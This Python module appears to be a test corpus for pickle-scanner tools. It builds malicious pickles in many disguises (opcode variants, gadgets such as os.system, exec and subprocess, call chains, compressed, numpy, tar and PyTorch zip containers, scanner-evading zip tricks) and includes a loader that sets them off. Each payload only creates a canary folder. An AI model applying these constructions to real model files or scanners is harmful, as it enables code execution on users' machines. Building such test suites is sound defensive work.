"""Pickles that run code when they are read, in every disguise that is known to have fooled someone.

Each makes the folder (or file) `canary` when it is unpickled. Names are those of the advisory or issue that it mirrors,
or of the trick. `how` tells `fire`, which reads them as a careless program would, where the pickle lies.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Hostile:
    """A file that runs code where it is unpickled."""

    name: str
    data: bytes
    how: str = "pickle"


def hostile_pickles(canary: str) -> list[Hostile]:
    """All of them, each of which makes the folder `canary`."""
    return [
        *(Hostile(name, data) for name, data in opcodes(canary)),
        *(Hostile(name, call(function, *arguments)) for name, function, arguments in gadgets(canary)),
        *(Hostile(name, data) for name, data in chains(canary)),
        *containers(canary),
        *zips(canary),
    ]


# --- by hand: the opcodes of one call


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def name(function: str) -> bytes:
    module, _, attribute = function.partition(":")
    return f"c{module}\n{attribute}\n".encode()


def value(given: Any) -> bytes:
    """A plain value without the opcodes around it; bytes are taken for opcodes."""
    return given if isinstance(given, bytes) else pickle.dumps(given, protocol=2)[2:-1]


def reduced(function: str, *arguments: Any) -> bytes:
    return name(function) + b"(" + b"".join(map(value, arguments)) + b"tR"


def call(function: str, *arguments: Any) -> bytes:
    return b"\x80\x04" + reduced(function, *arguments) + b"."


class Evil:
    """What `__reduce__` makes of it is a call."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.mkdir, (self.canary,)


def opcodes(canary: str) -> Iterator[tuple[str, bytes]]:
    for protocol in range(6):
        yield f"REDUCE, protocol {protocol}", pickle.dumps(Evil(canary), protocol=protocol)
    where = text(canary)
    yield "GLOBAL without a protocol", name("os:mkdir") + b"(" + where + b"tR."
    yield "STACK_GLOBAL", b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93" + where + b"\x85R."
    yield (
        "STACK_GLOBAL of memoized names",
        b"\x80\x04\x8c\x05mkdir\x940\x8c\x02os\x940h\x01h\x00\x93" + where + b"\x85R.",
    )
    yield "INST", b"(" + where + b"ios\nmkdir\n."
    yield "OBJ", b"(" + name("os:mkdir") + where + b"o."
    yield "NEWOBJ", b"\x80\x02" + name("functools:partial") + b"(" + name("os:mkdir") + where + b"t\x81)R."
    keywords = b"}" + text("args") + b"](" + text("mkdir") + where + b"es"
    yield (
        "NEWOBJ_EX",
        b"\x80\x04"
        + name("subprocess:Popen")
        + b")"
        + keywords
        + b"\x92"
        + reduced("subprocess:check_call", ["mkdir", canary])
        + b".",
    )
    setstate = reduced("functools:partial", name("os:mkdir"))
    yield (
        "BUILD",
        b"\x80\x02"
        + name("types:SimpleNamespace")
        + b")\x81}"
        + text("__setstate__")
        + setstate
        + b"sb"
        + (where + b"b."),
    )
    yield "no STOP at the end", b"\x80\x04" + reduced("os:mkdir", canary)
    yield "a broken opcode after the call", b"\x80\x04" + reduced("os:mkdir", canary) + b"\xff\xff."
    yield "a call that is thrown away", b"\x80\x04" + reduced("os:mkdir", canary) + b"0}."
    yield (
        "a frame that lies about its length",
        b"\x80\x04\x95\x05\0\0\0\0\0\0\0" + b"}0)0)0" + reduced("os:mkdir", canary) + b".",
    )
    yield "two pickles in a row", pickle.dumps({"weights": 1})[:-1] + b"0" + reduced("os:mkdir", canary) + b"."


def gadgets(canary: str) -> Iterator[tuple[str, str, tuple[Any, ...]]]:
    """(name, function, arguments): one call each."""
    code = f"import os; os.mkdir({canary!r})"
    command = f"mkdir {canary}"
    words = ["mkdir", canary]
    yield "os.system", "os:system", (command,)
    yield "posix.system", "posix:system", (command,)
    yield "subprocess.call", "subprocess:call", (words,)
    yield "subprocess.check_call", "subprocess:check_call", (words,)
    yield "subprocess.getoutput", "subprocess:getoutput", (command,)
    yield "builtins.exec", "builtins:exec", (code,)
    yield "builtins.eval", "builtins:eval", (f"__import__('os').mkdir({canary!r})",)
    yield "CVE-2025-10157 a name below a listed module", "asyncio.base_events:subprocess.check_call", (words,)
    yield "picklescan#46 runpy", "runpy:_run_code", (reduced("builtins:compile", code, "x", "exec"), {})
    yield "modelscan#263 pty.spawn", "pty:spawn", (words, reduced("operator:attrgetter", "close"))
    yield "modelscan#263 timeit", "timeit:timeit", (code, "pass", name("time:perf_counter"), 1)
    yield "modelscan#263 cProfile.run", "cProfile:run", (code, canary + ".profile")
    yield "modelscan#263 cProfile.runctx", "cProfile:runctx", (code, {}, {}, canary + ".profile")
    yield "profile.run", "profile:run", (code, canary + ".profile")
    yield "pydoc.pipepager", "pydoc:pipepager", ("", command)
    yield "uuid runs a command", "uuid:_get_command_stdout", ("mkdir", canary)
    yield "shutil.copyfile", "shutil:copyfile", ("/dev/null", canary)
    yield "pickle.loads inside a pickle", "pickle:loads", (raw(pickle.dumps(Evil(canary))),)
    yield "_pickle.loads inside a pickle", "_pickle:loads", (raw(pickle.dumps(Evil(canary))),)
    yield "numpy runs a string", "numpy.testing._private.utils:runstring", (code, {})
    yield "numpy.f2py evaluates", "numpy.f2py.crackfortran:myeval", (f"__import__('os').mkdir({canary!r})",)


def chains(canary: str) -> Iterator[tuple[str, bytes]]:
    """Calls of what a call returned: no dangerous name is called by its own name."""
    mkdir = reduced("builtins:getattr", reduced("importlib:import_module", "os"), "mkdir")
    old = b"\x80\x02" + reduced("__builtin__:eval", f"__import__('os').mkdir({canary!r})") + b"."
    yield "__builtin__.eval, a name of Python 2", old
    yield "getattr of an imported module", b"\x80\x02" + mkdir + b"(" + text(canary) + b"tR."
    mkdir = reduced("functools:partial", name("os:mkdir"), canary)
    yield "functools.partial", b"\x80\x02" + mkdir + b")R."
    caller = reduced("operator:methodcaller", "mkdir")
    yield "operator.methodcaller of a path", b"\x80\x02" + caller + b"(" + reduced("pathlib:Path", canary) + b"tR."
    star = reduced("itertools:starmap", name("os:mkdir"), [(canary,)])
    yield "itertools.starmap read by list", b"\x80\x02" + name("builtins:list") + b"(" + star + b"tR."
    mapped = reduced("builtins:map", name("os:mkdir"), [canary])
    yield "map read by collections.deque", b"\x80\x02" + name("collections:deque") + b"(" + mapped + b"tR."
    sink = reduced("functools:reduce", name("os:mkdir"), [0o777], canary)
    yield "functools.reduce", b"\x80\x02" + sink + b"."
    interpreter = reduced("operator:methodcaller", "runsource", f"__import__('os').mkdir({canary!r})")
    yield (
        "code.InteractiveInterpreter",
        b"\x80\x02" + interpreter + b"(" + reduced("code:InteractiveInterpreter") + b"tR.",
    )
    debugger = reduced("operator:methodcaller", "runeval", f"__import__('os').mkdir({canary!r})")
    yield "bdb.Bdb", b"\x80\x02" + debugger + b"(" + reduced("bdb:Bdb") + b"tR."
    configured = {"version": 1, "handlers": {"h": {"()": "os.mkdir", "path": canary}}, "root": {"handlers": ["h"]}}
    yield "logging.config makes a handler", call("logging.config:dictConfig", configured)


# --- in containers


def containers(canary: str) -> Iterator[Hostile]:
    evil = pickle.dumps(Evil(canary), protocol=2)
    yield Hostile("CVE-2025-10155 a pickle by another name", evil)
    yield Hostile("gzip", gzip.compress(evil), "gzip")
    yield Hostile("bz2", bz2.compress(evil), "bz2")
    yield Hostile("xz", lzma.compress(evil), "xz")
    yield Hostile("joblib's old zlib file", b"ZF" + hex(len(evil)).encode().ljust(19) + zlib.compress(evil), "zlib 21")
    yield Hostile("the magic of 7z", b"7z\xbc\xaf\x27\x1c" + evil, "offset 6")
    yield Hostile("a byte order mark", b"\xef\xbb\xbf" + evil, "offset 3")
    yield Hostile("JSON, then a pickle", b'{"format": "pt"}\n' + evil, "offset 17")
    yield Hostile("the magic of a token shard", struct.pack("<8sIIQQ32x", b"pocketlm", 1, 2, 0, 0) + evil, "offset 64")
    header = json.dumps({"__metadata__": {"format": "pt"}}).encode()
    safetensors = struct.pack("<Q", len(header)) + header
    yield Hostile("a safetensors header, then a pickle", safetensors + evil, f"offset {len(safetensors)}")
    header = json.dumps({"w": {"dtype": "U8", "shape": [len(evil)], "data_offsets": [0, len(evil)]}}).encode()
    safetensors = struct.pack("<Q", len(header)) + header
    yield Hostile("a tensor of bytes that are a pickle", safetensors + evil, f"offset {len(safetensors)}")
    yield Hostile("the length of a header in front", struct.pack("<Q", len(evil)) + evil, "offset 8")
    inside = json.dumps({"prompt_embeds": base64.b64encode(evil).decode()}).encode()
    yield Hostile("CVE-2025-62164 base64 in JSON", inside, "base64")
    yield Hostile("LightLLM#1213 a pickle with its length", struct.pack("!I", len(evil)) + evil, "offset 4")
    yield from arrays(canary)
    yield tarred(
        "CVE-2025-32434 the tar of old torch", {"sys_info": b"}.", "pickle": evil, "tensors": b"}.", "storages": b"}."}
    )


def arrays(canary: str) -> Iterator[Hostile]:
    import numpy as np

    array = np.array([Evil(canary)], dtype=object)
    file = io.BytesIO()
    np.save(file, array, allow_pickle=True)
    yield Hostile("a .npy of objects", file.getvalue(), "numpy")
    file = io.BytesIO()
    np.lib.format.write_array(file, array, version=(2, 0))
    yield Hostile("a .npy of objects, format 2", file.getvalue(), "numpy")
    file = io.BytesIO()
    np.savez_compressed(file, weights=array)
    yield Hostile("a .npz of objects", file.getvalue(), "numpy")


def tarred(title: str, members: dict[str, bytes]) -> Hostile:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as tar:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return Hostile(title, file.getvalue(), "tar")


def zipped(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for member, data in members.items():
            archive.writestr(zipfile.ZipInfo(member), data)
    return file.getvalue()


def zips(canary: str) -> Iterator[Hostile]:
    """PyTorch's zip files and the ways in which scanners were made to skip what is in them."""
    import torch

    evil = pickle.dumps(Evil(canary), protocol=2)
    plain = zipped({"archive/data.pkl": evil, "archive/version": b"3\n", "archive/byteorder": b"little"})
    yield Hostile("a .pth by hand", plain, "zip")
    for new in (True, False):
        file = io.BytesIO()
        torch.save({"weights": torch.zeros(2), "evil": Evil(canary)}, file, _use_new_zipfile_serialization=new)
        yield Hostile(f"torch.save, {'zip' if new else 'legacy'}", file.getvalue(), "torch")
    hyper = {"_instantiator": "os.system", "hyper_parameters": {"class_path": "os.mkdir"}, "state_dict": Evil(canary)}
    lightning = {"pytorch-lightning_version": "2.6.5", "hyper_parameters": hyper}
    yield Hostile(
        "CVE-2026-58659 Lightning's _instantiator",
        zipped({"archive/data.pkl": pickle.dumps(lightning, protocol=2)}),
        "zip",
    )
    yield Hostile("CVE-2026-24747 storage sizes that lie", zipped({"a/data.pkl": evil, "a/data/0": b"\0" * 3}), "zip")
    yield Hostile(
        "modelscan#338 data.pkl renamed", zipped({"archive/data.ptl": evil, "archive/data.pkl": b"}."}), "zip"
    )
    yield Hostile(
        "CVE-2025-10156 a wrong CRC", plain.replace(struct.pack("<I", zlib.crc32(evil)), b"\1\2\3\4"), "carved"
    )
    central = plain.rfind(b"archive/data.pkl")
    other = plain[:central] + b"archive/xxxx.txt" + plain[central + 16 :]
    yield Hostile("names in the headers differ", other, "carved")
    flags = bytearray(plain)
    flags[6] |= 1
    flags[plain.find(b"PK\1\2") + 8] |= 1
    yield Hostile("the flag of encryption, without any", bytes(flags), "carved")
    yield Hostile("bytes before the zip", b"\x89PNG\r\n\x1a\n" * 4 + plain, "zip")
    yield Hostile("bytes after the zip", plain + b"\0" * 99, "zip")
    header = json.dumps({"__metadata__": {"format": "pt"}}).encode()
    yield Hostile("a safetensors file that is a zip", struct.pack("<Q", len(header)) + header + plain, "zip")
    yield Hostile("TorchServe's .mar", zipped({"MAR-INF/MANIFEST.json": b"{}", "handler.pkl": evil}), "zip")
    yield Hostile("a zip in a zip", zipped({"model.pth": plain}), "carved")


# --- reading them as a careless program would


def fire(hostile: Hostile) -> None:
    """Reads a file the way that sets it off. For a process that nobody needs any more."""
    import numpy as np
    import torch

    kind, _, detail = hostile.how.partition(" ")
    data = hostile.data
    if kind == "numpy":
        loaded = np.load(io.BytesIO(data), allow_pickle=True)
        list(loaded.values()) if hasattr(loaded, "values") else None
    elif kind == "torch":
        torch.load(io.BytesIO(data), weights_only=False)
    elif kind == "zip":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for member in archive.namelist():
                if member.endswith((".pkl", ".ptl")):
                    pickle.loads(archive.read(member))
    elif kind == "tar":
        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
            member = tar.extractfile("pickle")
            assert member is not None
            pickle.loads(member.read())
    elif kind == "base64":
        pickle.loads(base64.b64decode(json.loads(data)["prompt_embeds"]))
    elif kind == "carved":  # as readers do that take the local headers' word
        pickle.loads(data[data.index(b"\x80\x02") :])
    else:
        unpack = {"gzip": gzip.decompress, "bz2": bz2.decompress, "xz": lzma.decompress}
        unpack |= {"zlib": lambda packed: zlib.decompress(packed[int(detail) :])}
        unpack |= {"offset": lambda whole: whole[int(detail) :], "pickle": lambda whole: whole}
        pickle.loads(unpack[kind](data))


def fire_all(folder: str) -> list[str]:
    """The names of those that did not go off."""
    import contextlib
    import os

    silent = []
    for number, title in enumerate(hostile.name for hostile in hostile_pickles(folder)):
        canary = os.path.join(folder, str(number))
        hostile = next(one for one in hostile_pickles(canary) if one.name == title)
        with warnings.catch_warnings(), contextlib.suppress(Exception):
            warnings.simplefilter("ignore")
            fire(hostile)
        if not os.path.exists(canary):
            silent.append(title)
    return silent
